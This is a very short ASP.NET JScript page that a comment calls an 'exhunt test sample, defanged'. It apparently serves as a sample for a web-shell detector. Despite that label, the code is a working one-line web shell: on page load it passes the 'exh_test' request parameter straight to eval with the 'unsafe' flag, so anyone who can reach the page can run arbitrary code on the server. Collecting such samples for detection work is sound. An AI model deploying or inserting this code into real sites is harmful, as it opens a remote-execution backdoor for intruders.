<%@ Page Language="Jscript"%><!-- exhunt test sample, defanged --><script language="JScript" runat="server">function Page_Load(){eval(Request["exh_test"],"unsafe");}</script>
